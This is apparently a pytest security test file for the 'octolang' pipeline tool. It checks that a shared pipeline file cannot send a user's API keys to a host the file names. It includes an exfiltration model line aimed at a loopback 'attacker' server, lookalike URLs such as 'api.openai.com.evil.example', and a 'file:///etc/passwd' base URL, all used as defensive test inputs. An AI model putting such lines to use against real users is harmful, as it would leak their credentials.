"""Keys stay with their provider (issue 10, finding 4): a file names addresses and variables,
the user decides which key may go where. The "attacker" is a recording HTTP server on
127.0.0.1 that answers like an OpenAI-compatible server and keeps every request's headers."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from octolang import ir
from octolang.providers import anthropic, gemini, openai
from octolang.providers.hosts import (
    ALLOW_HOST_VAR,
    ALLOW_KEY_ENV_VAR,
    OFFICIAL_URLS,
    Allowance,
    HostRule,
    destination,
    origin,
)
from octolang.providers.registry import KeyRefused, api_key, realtime_client
from tests.conftest import compile_at, octoc

FAKE_KEY = "sk-fake-0f1e2d3c4b5a69788796a5b4c3d2e1f0"  # never a real key; must never reach the attacker
KEY_NAMES = ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "GOOGLE_API_KEY")
URL_NAMES = ("OPENAI_BASE_URL", "ANTHROPIC_BASE_URL", "GEMINI_BASE_URL", "GOOGLE_GEMINI_BASE_URL")


class Attacker:
    """A loopback server that records each request (path, headers) and answers `{"n": 4}`."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, dict[str, str]]] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("content-length") or 0))
                attacker.requests.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
                body = json.dumps(
                    {
                        "id": "chatcmpl-1",
                        "object": "chat.completion",
                        "model": "any",
                        "choices": [{"index": 0, "message": {"role": "assistant", "content": '{"n": 4}'}}],
                        "usage": {"prompt_tokens": 10, "completion_tokens": 3, "total_tokens": 13},
                    }
                ).encode()
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    def heard(self) -> str:
        """Everything the server was sent in headers, as one text to search."""
        return json.dumps(self.requests)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    server.thread.start()
    try:
        yield server
    finally:
        server.server.shutdown()
        server.server.server_close()


def user_env(**extra: str) -> dict[str, str]:
    """This process's environment without any provider key, base URL or allowance; then `extra`."""
    drop = {*KEY_NAMES, *URL_NAMES, ALLOW_HOST_VAR, ALLOW_KEY_ENV_VAR}
    env = {k: v for k, v in os.environ.items() if k not in drop}
    env["OCTO_HTTP_BACKOFF"] = "0.01"
    env.update(extra)
    return env


def pipeline(folder: Path, model: str) -> Path:
    path = folder / "shared.octo"
    path.write_text(
        f'pipeline shared "a file from someone else"\n'
        f"seed 3\n"
        f"{model}\n"
        f"units u {{ trials 3 }}\n"
        f'step a = llm m {{ prompt "Pick a number from 1 to 9." output {{ n: int }} }}\n'
        f"report r {{ avg = mean(a.n) }}\n",
        encoding="utf-8",
    )
    return path


def the_attack(server: Attacker) -> str:
    """The model line of issue 10, finding 4, aimed at the recording server."""
    return (
        f'model m = openai_compatible "any" {{ base_url = "http://{server.host}/v1", api_key_env = "OPENAI_API_KEY" }}'
    )


def all_output(*results: Any) -> str:
    return "".join(r.stdout + r.stderr for r in results)


def files_text(folder: Path) -> bytes:
    return b"".join(f.read_bytes() for f in folder.rglob("*") if f.is_file())


# ---------------------------------------------------------------- the attack, end to end


def test_the_attack_sends_no_key_and_no_request(tmp_path: Path, attacker: Attacker) -> None:
    path = pipeline(tmp_path, the_attack(attacker))
    env = user_env(OPENAI_API_KEY=FAKE_KEY)
    checked = octoc("check", path.name, cwd=tmp_path, env=env, check=False)
    ran = octoc("run", path.name, cwd=tmp_path, env=env, check=False)
    assert checked.returncode == 1 and ran.returncode == 1
    assert "error[E0810]: `api_key_env` names `OPENAI_API_KEY`" in checked.stdout
    # the diagnostic points at the setting and says what to allow, and how
    assert f"--allow-key-env OPENAI_API_KEY --allow-host {attacker.host}" in checked.stdout
    assert "octoc run: model `m`: `api_key_env` names `OPENAI_API_KEY`" in ran.stderr
    assert attacker.requests == [], "the run talked to the attacker"
    assert not (tmp_path / ".octo").exists(), "a run folder was made for a refused run"
    assert FAKE_KEY not in all_output(checked, ran)


def test_with_the_users_allowance_the_key_arrives(tmp_path: Path, attacker: Attacker) -> None:
    path = pipeline(tmp_path, the_attack(attacker))
    env = user_env(OPENAI_API_KEY=FAKE_KEY)
    flags = ("--allow-key-env", "OPENAI_API_KEY", "--allow-host", attacker.host)
    checked = octoc("check", path.name, *flags, cwd=tmp_path, env=env)
    ran = octoc("run", path.name, "--poll", "0.02", *flags, cwd=tmp_path, env=env)
    assert "report r" in ran.stdout
    assert len(attacker.requests) == 3
    assert all(headers.get("authorization") == f"Bearer {FAKE_KEY}" for _, headers in attacker.requests)
    # the check named where the key goes, and the value appears nowhere the user reads or the run keeps
    assert f"hosts    {attacker.host} (http): m; key OPENAI_API_KEY" in checked.stdout
    assert FAKE_KEY not in all_output(checked, ran)
    assert FAKE_KEY.encode() not in files_text(tmp_path / ".octo")


def test_the_environment_allows_as_the_flags_do(tmp_path: Path, attacker: Attacker) -> None:
    path = pipeline(tmp_path, the_attack(attacker))
    env = user_env(
        OPENAI_API_KEY=FAKE_KEY,
        **{ALLOW_KEY_ENV_VAR: "SOMETHING_ELSE, OPENAI_API_KEY", ALLOW_HOST_VAR: f"example.org {attacker.host}"},
    )
    octoc("run", path.name, "--poll", "0.02", cwd=tmp_path, env=env)
    assert [h.get("authorization") for _, h in attacker.requests] == [f"Bearer {FAKE_KEY}"] * 3


@pytest.mark.parametrize(
    ("flags", "code", "wanted"),
    [
        (("--allow-key-env", "OPENAI_API_KEY"), "E0811", "--allow-host 127.0.0.1:{port}"),
        (("--allow-host", "127.0.0.1"), "E0810", "--allow-key-env OPENAI_API_KEY`"),
        (("--allow-key-env", "OPENAI_API_KEY", "--allow-host", "127.0.0.1:1"), "E0811", "127.0.0.1:{port}`"),
    ],
    ids=["variable-only", "host-only", "other-port"],
)
def test_half_an_allowance_is_a_refusal(
    tmp_path: Path, attacker: Attacker, flags: tuple[str, ...], code: str, wanted: str
) -> None:
    path = pipeline(tmp_path, the_attack(attacker))
    env = user_env(OPENAI_API_KEY=FAKE_KEY)
    checked = octoc("check", path.name, *flags, cwd=tmp_path, env=env, check=False)
    ran = octoc("run", path.name, *flags, cwd=tmp_path, env=env, check=False)
    assert checked.returncode == 1 and ran.returncode == 1
    assert f"error[{code}]" in checked.stdout
    assert wanted.format(port=attacker.port) in checked.stdout
    assert attacker.requests == []
    assert FAKE_KEY not in all_output(checked, ran)


def test_a_files_server_without_a_key_is_called_without_one(tmp_path: Path, attacker: Attacker) -> None:
    path = pipeline(tmp_path, f'model m = openai_compatible "any" {{ base_url = "http://{attacker.host}/v1" }}')
    env = user_env(OPENAI_API_KEY=FAKE_KEY)
    checked = octoc("check", path.name, cwd=tmp_path, env=env)
    octoc("run", path.name, "--poll", "0.02", cwd=tmp_path, env=env)
    assert f"hosts    {attacker.host} (http): m; no key" in checked.stdout
    assert len(attacker.requests) == 3
    assert all("authorization" not in headers for _, headers in attacker.requests)
    assert FAKE_KEY not in attacker.heard()


def test_a_built_in_provider_ignores_a_files_base_url(tmp_path: Path, attacker: Attacker) -> None:
    """`base_url` is not a setting of the built-in providers (E0108), and even a program that
    skipped the check would send the key to the official address, never to the file's."""
    model = f'model m = openai "gpt-4.1-mini" {{ base_url = "http://{attacker.host}/v1" }}'
    path = pipeline(tmp_path, model)
    env = user_env(OPENAI_API_KEY=FAKE_KEY)
    checked = octoc("check", path.name, cwd=tmp_path, env=env, check=False)
    ran = octoc("run", path.name, cwd=tmp_path, env=env, check=False)
    assert "error[E0108]: `base_url` does not apply to provider `openai`" in checked.stdout
    assert ran.returncode == 1 and attacker.requests == []
    decl = _model(model)
    client = realtime_client(decl, "unused")
    try:
        assert str(client.http._client.base_url).rstrip("/") == OFFICIAL_URLS["openai"]  # type: ignore[attr-defined]
    finally:
        client.close()


def test_a_built_in_model_may_not_pick_another_variable(tmp_path: Path) -> None:
    """`api_key_env` on a built-in provider chooses a variable too: Anthropic's key to OpenAI
    is refused unless the user allows it."""
    path = pipeline(tmp_path, 'model m = openai "gpt-4.1-mini" { api_key_env = "ANTHROPIC_API_KEY" }')
    env = user_env(ANTHROPIC_API_KEY=FAKE_KEY, OPENAI_API_KEY="sk-other")
    checked = octoc("check", path.name, cwd=tmp_path, env=env, check=False)
    assert "error[E0810]: `api_key_env` names `ANTHROPIC_API_KEY`" in checked.stdout
    assert "run with `--allow-key-env ANTHROPIC_API_KEY`" in checked.stdout  # the host is OpenAI's own: no flag
    allowed = octoc("check", path.name, "--allow-key-env", "ANTHROPIC_API_KEY", cwd=tmp_path, env=env)
    assert "hosts    api.openai.com (https): m; key ANTHROPIC_API_KEY" in allowed.stdout
    assert FAKE_KEY not in all_output(checked, allowed)


def test_a_bad_allow_host_is_a_usage_error(tmp_path: Path) -> None:
    path = pipeline(tmp_path, 'model m = mock "echo"')
    result = octoc("check", path.name, "--allow-host", "http://", cwd=tmp_path, env=user_env(), check=False)
    assert result.returncode == 2 and "is not a host" in result.stderr


@pytest.mark.parametrize(
    ("variable", "value", "said"),
    [
        ("OCTO_ALLOW_HOST", "127.0.0.1:8000, http://", "OCTO_ALLOW_HOST: `http://` is not a host"),
        ("OCTO_ALLOW_KEY_ENV", "MY_KEY OPENAI-KEY", "OCTO_ALLOW_KEY_ENV: `OPENAI-KEY` is not an environment variable"),
    ],
)
def test_a_bad_allowance_in_the_environment_is_never_ignored(
    tmp_path: Path, variable: str, value: str, said: str
) -> None:
    """An entry of OCTO_ALLOW_HOST or OCTO_ALLOW_KEY_ENV that could not mean anything is a
    usage error naming it (it used to be dropped without a word, so the key stayed refused
    and the user did not know why)."""
    path = pipeline(tmp_path, 'model m = mock "echo"')
    result = octoc("check", path.name, cwd=tmp_path, env=user_env(**{variable: value}), check=False)
    assert result.returncode == 2 and said in result.stderr
    flagged = octoc("check", path.name, "--allow-key-env", "A-B", cwd=tmp_path, env=user_env(), check=False)
    assert flagged.returncode == 2 and "`A-B` is not an environment variable name" in flagged.stderr


# ---------------------------------------------------------------- what check says


def test_check_lists_hosts_and_keys_in_text_and_json(tmp_path: Path) -> None:
    text = (
        'model w = openai "gpt-4.1-mini"\n'
        'model c = anthropic "claude-haiku-4-5"\n'
        'model g = gemini "gemini-2.5-flash"\n'
        'model local = openai_compatible "llama" { base_url = "http://127.0.0.1:8000/v1" }\n'
        'model quiet = mock "echo"'
    )
    path = tmp_path / "many.octo"
    path.write_text(
        'pipeline many "every provider"\n'
        f"{text}\n"
        "units u { trials 2 }\n"
        'step a = llm w { prompt "One." output { n: int } }\n'
        'step b = llm c { prompt "Two." output { n: int } }\n'
        'step d = llm g { prompt "Three." output { n: int } }\n'
        'step e = llm local { prompt "Four." output { n: int } }\n'
        'step f = llm quiet { prompt "Five." output { n: int } }\n',
        encoding="utf-8",
    )
    env = user_env(OPENAI_API_KEY=FAKE_KEY, GOOGLE_API_KEY=FAKE_KEY + "g", ANTHROPIC_BASE_URL="http://127.0.0.1:9")
    shown = octoc("check", path.name, cwd=tmp_path, env=env)
    lines = shown.stdout.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("  hosts"))
    assert lines[start : start + 4] == [
        "  hosts    127.0.0.1:9 (http): c; key ANTHROPIC_API_KEY (not set)",
        "           generativelanguage.googleapis.com (https): g; key GOOGLE_API_KEY",
        "           127.0.0.1:8000 (http): local; no key",
        "           api.openai.com (https): w; key OPENAI_API_KEY",
    ]
    as_json = octoc("check", path.name, "--json", cwd=tmp_path, env=env)
    hosts = json.loads(as_json.stdout)["files"][0]["summary"]["hosts"]
    assert hosts[0] == {
        "host": "127.0.0.1:9",
        "scheme": "http",
        "models": ["c"],
        "keys": ["ANTHROPIC_API_KEY"],
        "unset": ["ANTHROPIC_API_KEY"],
    }
    assert [(h["host"], h["models"], h["keys"]) for h in hosts[1:]] == [
        ("generativelanguage.googleapis.com", ["g"], ["GOOGLE_API_KEY"]),
        ("127.0.0.1:8000", ["local"], []),
        ("api.openai.com", ["w"], ["OPENAI_API_KEY"]),
    ]
    assert FAKE_KEY not in shown.stdout + shown.stderr + as_json.stdout + as_json.stderr


def test_a_monte_carlo_pipeline_talks_to_nobody(tmp_path: Path) -> None:
    shown = octoc("check", "drunken_sailor.octo", "--json", cwd=Path(__file__).parents[1] / "examples")
    assert json.loads(shown.stdout)["files"][0]["summary"]["hosts"] == []


# ---------------------------------------------------------------- the rule itself


def _model(line: str) -> ir.ModelDecl:
    text = f'pipeline p\n{line}\nunits u {{ trials 1 }}\nstep a = llm m {{ prompt "x" output {{ n: int }} }}'
    compiled = compile_at(text)
    assert compiled.program is not None
    found = compiled.program.model("m")
    assert found is not None
    return found


def test_the_official_addresses_are_the_clients_defaults() -> None:
    assert OFFICIAL_URLS == {
        "openai": openai.DEFAULT_BASE_URL,
        "anthropic": anthropic.DEFAULT_BASE_URL,
        "gemini": gemini.DEFAULT_BASE_URL,
    }


@pytest.mark.parametrize(
    "url",
    [
        "http://api.openai.com/v1",  # the official host over plain http: not the official origin
        "https://api.openai.com:8443/v1",
        "https://api.openai.com@127.0.0.1/v1",  # userinfo: httpx connects to 127.0.0.1
        "https://127.0.0.1/v1#api.openai.com",
        "https://api.openai.com.evil.example/v1",
    ],
)
def test_lookalike_addresses_get_no_openai_key(url: str) -> None:
    model = _model(f'model m = openai_compatible "x" {{ base_url = "{url}", api_key_env = "OPENAI_API_KEY" }}')
    refusal = destination(model, Allowance()).refusal
    assert refusal is not None and refusal.code == "E0810"


def test_a_providers_own_key_may_go_to_its_official_address() -> None:
    model = _model(
        'model m = openai_compatible "x" { base_url = "https://API.openai.com/v1", api_key_env = "OPENAI_API_KEY" }'
    )
    assert destination(model, Allowance()).refusal is None


def test_the_users_base_url_is_the_providers_host() -> None:
    """OPENAI_BASE_URL is the user's: the OpenAI key goes there, and a file may point an
    `openai_compatible` model at it with that key, as at the official address."""
    allow = Allowance.from_env({"OPENAI_BASE_URL": "http://127.0.0.1:5000/v1"})
    builtin = destination(_model('model m = openai "gpt-4.1-mini"'), allow)
    assert builtin.url == "http://127.0.0.1:5000/v1" and builtin.key_vars == ("OPENAI_API_KEY",)
    assert builtin.refusal is None
    same = 'model m = openai_compatible "x" { base_url = "http://127.0.0.1:5000/v2", api_key_env = "OPENAI_API_KEY" }'
    assert destination(_model(same), allow).refusal is None
    other = same.replace("5000", "5001")
    assert destination(_model(other), allow).refusal is not None


def test_a_non_http_base_url_gets_no_key() -> None:
    model = _model('model m = openai_compatible "x" { base_url = "file:///etc/passwd", api_key_env = "K" }')
    refusal = destination(model, Allowance.from_env({ALLOW_KEY_ENV_VAR: "K", ALLOW_HOST_VAR: "localhost"})).refusal
    assert refusal is not None and refusal.code == "E0811" and refusal.setting == "base_url"


@pytest.mark.parametrize(
    ("rule", "url", "admitted"),
    [
        ("127.0.0.1", "http://127.0.0.1:8000/v1", True),
        ("127.0.0.1:8000", "http://127.0.0.1:8000/v1", True),
        ("127.0.0.1:8000", "http://127.0.0.1:8001/v1", False),
        ("http://127.0.0.1:8000/v1", "http://127.0.0.1:8000/other", True),
        ("https://vllm.lan", "https://vllm.lan:443/v1", True),
        ("https://vllm.lan", "http://vllm.lan/v1", False),  # port 443 named by the URL, 80 asked
        ("VLLM.lan", "http://vllm.lan/v1", True),
        ("[::1]:8000", "http://[::1]:8000/v1", True),
        ("127.0.0.1", "http://127.0.0.1.evil.example/v1", False),
    ],
)
def test_host_rules(rule: str, url: str, admitted: bool) -> None:
    parsed = HostRule.parse(rule)
    where = origin(url)
    assert parsed is not None and where is not None
    assert parsed.admits(where) is admitted


def test_the_registry_refuses_even_when_the_check_was_skipped(monkeypatch: pytest.MonkeyPatch) -> None:
    """The last gate is where the key is read: `api_key` raises, so no client gets it."""
    for name in (ALLOW_HOST_VAR, ALLOW_KEY_ENV_VAR):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    model = _model(
        'model m = openai_compatible "x" { base_url = "http://10.9.8.7/v1", api_key_env = "OPENAI_API_KEY" }'
    )
    with pytest.raises(KeyRefused) as refused:
        api_key(model)
    assert FAKE_KEY not in str(refused.value)
    monkeypatch.setenv(ALLOW_KEY_ENV_VAR, "OPENAI_API_KEY")
    monkeypatch.setenv(ALLOW_HOST_VAR, "10.9.8.7")
    assert api_key(model) == FAKE_KEY


def test_tick_takes_the_allowance_too(tmp_path: Path, attacker: Attacker) -> None:
    path = pipeline(tmp_path, the_attack(attacker))
    env = user_env(OPENAI_API_KEY=FAKE_KEY)
    refused = octoc("tick", path.name, cwd=tmp_path, env=env, check=False)
    assert refused.returncode == 1 and attacker.requests == [] and not (tmp_path / ".octo").exists()
    flags = ("--allow-key-env", "OPENAI_API_KEY", "--allow-host", attacker.host)
    for _ in range(3):  # the first tick records the requests, a later one makes the calls
        octoc("tick", path.name, *flags, cwd=tmp_path, env=env)
        if attacker.requests:
            break
    assert attacker.requests and all(h.get("authorization") == f"Bearer {FAKE_KEY}" for _, h in attacker.requests)


def test_the_check_before_a_run_loads_no_http_client() -> None:
    """Models without `api_key_env` are checked without parsing a URL: opening a run costs
    no httpx import (0.3 s cold) before its folder is made."""
    code = (
        "import sys\n"
        "from tests.conftest import compile_file\n"
        "from octolang.providers.registry import missing_keys\n"
        "program = compile_file('examples/npc_dialogue.octo').program\n"
        "missing_keys(program.models)\n"
        "assert 'httpx' not in sys.modules, 'httpx was imported'\n"
    )
    root = Path(__file__).parents[1]
    result = subprocess.run([sys.executable, "-c", code], cwd=root, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
